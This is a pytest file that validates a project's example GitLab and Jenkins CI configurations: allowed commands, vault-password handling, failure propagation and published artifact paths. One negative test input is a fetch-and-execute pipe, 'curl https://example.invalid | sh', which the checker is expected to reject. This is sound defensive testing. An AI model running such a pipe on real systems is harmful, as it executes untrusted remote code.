"""The CI examples users copy (examples/ci/): both parse, every command they run is a make target of the Makefile or
a `baseline` command whose own parser accepts its options, the vault password never appears on a command line,
nothing hides the exit status of `baseline verify`, and the published paths are those its options write."""

from __future__ import annotations

import importlib
import re
import shlex
from pathlib import Path

import pytest
import yaml

from baseline import REPO_ROOT
from baseline.cli import RUNTIME

CI = REPO_ROOT / "examples" / "ci"
BASELINE = ("baseline", ".venv/bin/baseline")


def makefile_targets() -> set[str]:
    text = (REPO_ROOT / "Makefile").read_text(encoding="utf-8")
    return {name for line in text.splitlines() if (m := re.match(r"^([A-Za-z0-9_.-]+):(?!=)", line))
            for name in [m.group(1)]}


def gitlab_jobs() -> dict[str, dict]:
    data = yaml.safe_load((CI / "gitlab-ci.yml").read_text(encoding="utf-8"))
    return {name: job for name, job in data.items() if isinstance(job, dict) and "script" in job}


def gitlab_lines(job: dict) -> list[str]:
    return [*job.get("before_script", []), *job["script"], *job.get("after_script", [])]


def jenkins_text() -> str:
    return (CI / "Jenkinsfile").read_text(encoding="utf-8")


def jenkins_lines(text: str) -> list[str]:
    """The shell of every `sh '...'`, `sh "..."`, `sh '''...'''` and `sh \"\"\"...\"\"\"` step."""
    found = re.findall(r"""\bsh\s*\(?\s*(?:script:\s*)?('''|\"\"\"|'|")(.*?)\1""", text, re.S)
    return [" ".join(line.split()) for _, body in found for line in body.replace("\\\n", " ").splitlines() if line.strip()]


def commands(line: str) -> list[list[str]]:
    """The simple commands of a shell line (split at ;, && and ||)."""
    words = shlex.split(line, comments=True)
    out: list[list[str]] = [[]]
    for word in words:
        if word in (";", "&&", "||"):
            out.append([])
        else:
            out[-1].append(word)
    return [c for c in out if c]


def check_command(argv: list[str]) -> list[str]:
    """Problems of one command: an unknown make target, an unknown `baseline` command or options its parser
    refuses, or a command that is neither."""
    if argv[0] == "make":
        missing = [t for t in argv[1:] if not t.startswith("-") and t not in makefile_targets()]
        return [f"make: no target {t} in the Makefile" for t in missing]
    if argv[0] in BASELINE:
        name, rest = argv[1], argv[2:]
        if name not in RUNTIME:
            return [f"baseline {name}: not a runtime command ({', '.join(RUNTIME)})"]
        module = importlib.import_module(RUNTIME[name][0])
        if not hasattr(module, "parser"):
            return [f"baseline {name}: its module has no parser() to check the options with"]
        try:
            module.parser().parse_args(rest)
        except SystemExit as exc:
            return [f"baseline {name}: options refused (exit {exc.code}): {' '.join(rest)}"]
        return []
    return [f"{' '.join(argv)}: neither a make target nor a baseline command"]


def verify_args(lines: list[str]):
    from baseline.operations import verify

    runs = [c for line in lines for c in commands(line) if c[0] in BASELINE and c[1] == "verify"]
    assert len(runs) == 1, f"one `baseline verify` expected, found {len(runs)}"
    return verify.parser().parse_args(runs[0][2:])


def _stripped(path: str) -> str:
    return path.rstrip("/").removesuffix("/**").rstrip("/")


# --- GitLab ------------------------------------------------------------------------------------------------------


def test_gitlab_example_parses_and_has_one_verify_job():
    jobs = gitlab_jobs()
    assert list(jobs) == ["baseline-verify"]
    job = jobs["baseline-verify"]
    assert job["stage"] in yaml.safe_load((CI / "gitlab-ci.yml").read_text(encoding="utf-8"))["stages"]


def test_gitlab_commands_are_make_targets_or_baseline_commands_with_accepted_options():
    lines = gitlab_lines(gitlab_jobs()["baseline-verify"])
    assert commands(lines[0]) == [["make", "setup"]], "the job installs the project first, as the README says"
    problems = [p for line in lines for c in commands(line) for p in check_command(c)]
    assert problems == []


def test_gitlab_verifies_the_ci_inventory_and_publishes_what_verify_writes():
    job = gitlab_jobs()["baseline-verify"]
    args = verify_args(gitlab_lines(job))
    assert args.inventory == "$BASELINE_INVENTORY"
    assert args.junit and args.report_dir
    artifacts = job["artifacts"]
    assert artifacts["when"] == "always"  # a failing run still publishes its evidence
    junit = artifacts["reports"]["junit"]
    assert args.junit in junit and f"{_stripped(args.report_dir)}/junit.xml" in junit
    kept = [_stripped(p) for p in artifacts["paths"]]
    assert _stripped(args.report_dir) in kept
    assert any(args.junit == k or args.junit.startswith(k + "/") for k in kept)
    assert [_stripped(p) for p in job["cache"]["paths"]] == ["results/history"]  # baseline verify's default history
    assert args.history is None


def test_gitlab_job_fails_on_drift_and_keeps_the_vault_password_off_command_lines():
    data = yaml.safe_load((CI / "gitlab-ci.yml").read_text(encoding="utf-8"))
    job = gitlab_jobs()["baseline-verify"]
    assert not job.get("allow_failure", False)
    for line in gitlab_lines(job):
        assert "|| true" not in line and "set +e" not in line, line
        assert "VAULT" not in line.upper(), f"the vault password on a command line: {line}"
    for scope in (data.get("variables", {}), job.get("variables", {})):
        assert "BASELINE_VAULT_PASSWORD" not in scope, "the vault password belongs in the CI/CD settings, masked"


# --- Jenkins -----------------------------------------------------------------------------------------------------


def test_jenkinsfile_is_a_declarative_pipeline_with_balanced_blocks():
    text = jenkins_text()
    uncommented = re.sub(r"(^|\s)//[^\n]*", r"\1", text)
    code = re.sub(r"'(?:[^'\\\n]|\\.)*'", "''", uncommented)
    assert code.strip().startswith("pipeline {")
    depth = 0
    for char in code:
        depth += {"{": 1, "}": -1}.get(char, 0)
        assert depth >= 0
    assert depth == 0
    for block in ("agent", "stages", "post", "parameters"):
        assert re.search(rf"\b{block}\s*\{{", code), block


def test_jenkins_sh_steps_are_extracted():
    assert jenkins_lines("sh 'make setup'\nsh \"\"\"\n  make lint \\\n  -k\n\"\"\"\nsh '''baseline report'''") == [
        "make setup", "make lint -k", "baseline report"]


def test_jenkins_commands_are_make_targets_or_baseline_commands_with_accepted_options():
    lines = jenkins_lines(jenkins_text())
    assert lines and commands(lines[0]) == [["make", "setup"]]
    problems = [p for line in lines for c in commands(line) for p in check_command(c)]
    assert problems == []


def test_jenkins_verifies_the_parameter_inventory_and_publishes_what_verify_writes():
    text = jenkins_text()
    args = verify_args(jenkins_lines(text))
    assert args.inventory == "$BASELINE_INVENTORY"
    assert re.search(r"string\(name:\s*'BASELINE_INVENTORY'", text)
    junit = re.search(r"\bjunit\s+testResults:\s*'([^']+)'", text)
    assert junit, "a junit step"
    patterns = [p.strip() for p in junit.group(1).split(",")]
    assert args.junit in patterns and f"{_stripped(args.report_dir)}/junit.xml" in patterns
    archived = re.search(r"\barchiveArtifacts\s+artifacts:\s*'([^']+)'", text)
    assert archived, "an archiveArtifacts step"
    kept = [_stripped(p.strip()) for p in archived.group(1).split(",")]
    assert _stripped(args.report_dir) in kept
    assert any(args.junit.startswith(k + "/") for k in kept)
    post = text[text.index("post {"):]
    assert "always {" in post and "junit" in post and "archiveArtifacts" in post


def test_jenkins_fails_on_drift_and_binds_the_vault_password_from_credentials():
    text = jenkins_text()
    assert "returnStatus" not in text and "catchError" not in text and "|| true" not in text
    bound = re.search(r"withCredentials\(\[string\(credentialsId:\s*'[^']+',\s*variable:\s*'BASELINE_VAULT_PASSWORD'\)\]\)",
                      text)
    assert bound, "the vault password comes from the credentials store as BASELINE_VAULT_PASSWORD"
    for line in jenkins_lines(text):
        assert "VAULT" not in line.upper(), f"the vault password on a command line: {line}"
    verify_line = next(line for line in jenkins_lines(text) if " verify" in line)
    assert text.index(bound.group(0)) < text.index(verify_line)


@pytest.mark.parametrize("line", [
    "make no-such-target",
    "baseline no-such-command",
    "baseline verify --no-such-option",
    "baseline verify --keep zero",
    "curl https://example.invalid | sh",
])
def test_the_command_check_refuses(line):
    assert [p for c in commands(line) for p in check_command(c)]


def test_the_example_readme_names_both_files():
    text = (CI / "README.md").read_text(encoding="utf-8")
    assert "gitlab-ci.yml" in text and "Jenkinsfile" in text and "BASELINE_VAULT_PASSWORD" in text
    assert Path(CI / "Jenkinsfile").is_file()
